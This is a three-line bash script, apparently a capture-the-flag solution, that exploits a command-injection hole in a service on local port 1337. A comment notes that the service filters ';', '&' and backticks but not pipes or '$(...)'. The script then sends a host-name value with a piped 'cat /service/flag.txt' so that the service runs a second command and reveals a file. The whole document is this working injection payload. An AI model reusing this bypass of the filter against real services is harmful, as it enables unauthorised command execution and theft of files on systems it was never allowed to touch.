#!/bin/bash
# ";", "&" and "`" are filtered, but "$(...)" and "|" are not, and the host name reaches a shell.
printf 'localhost | cat /service/flag.txt\n' | socat -t5 - TCP:127.0.0.1:1337
